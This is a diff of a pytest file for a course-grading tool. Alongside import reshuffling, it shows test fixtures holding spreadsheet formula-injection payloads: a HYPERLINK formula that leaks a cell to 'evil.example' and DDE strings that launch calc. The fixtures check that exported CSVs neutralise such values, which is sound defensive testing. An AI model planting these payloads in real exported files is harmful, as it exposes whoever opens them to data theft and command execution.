@@ -14,15 +14,15 @@ from pathlib import Path
 import pytest
 
 import course_config
-from graders.frontends.grade.term import decisions
 from graders.frontends.grade import lms
+from graders.frontends.grade.lms.canvas import canvas_csv
 from graders.frontends.grade.lms.platform import GradeImport
 from graders.frontends.grade.outputs import regrade, tables
 from graders.frontends.grade.outputs.similarity import Pair, similarity_csv
 from graders.frontends.grade.spreadsheet import FORMULA_STARTS, cell
-from graders.frontends.grade.term.standing import Person, Standing
 from graders.frontends.grade.store import StudentRecord
-from graders.frontends.grade.term.standing import build_standings
+from graders.frontends.grade.term import decisions
+from graders.frontends.grade.term.standing import Person, Standing, build_standings
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
 EVILS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
@@ -130,9 +130,6 @@ def _record(student: str, **scores: float) -> StudentRecord:
 
 
 def test_grades_csv_and_the_lms_files_write_a_formula_like_id_as_text() -> None:
-    from graders.frontends.grade.lms.canvas import canvas_csv
-    from graders.frontends.grade.outputs import tables
-
     evil = '=cmd|" /C calc"!A0'
     records = [_record(evil, views=5.0)]
     standings = build_standings(records, 100.0, roster={evil: Person(evil, name="@SUM(1+1)")})
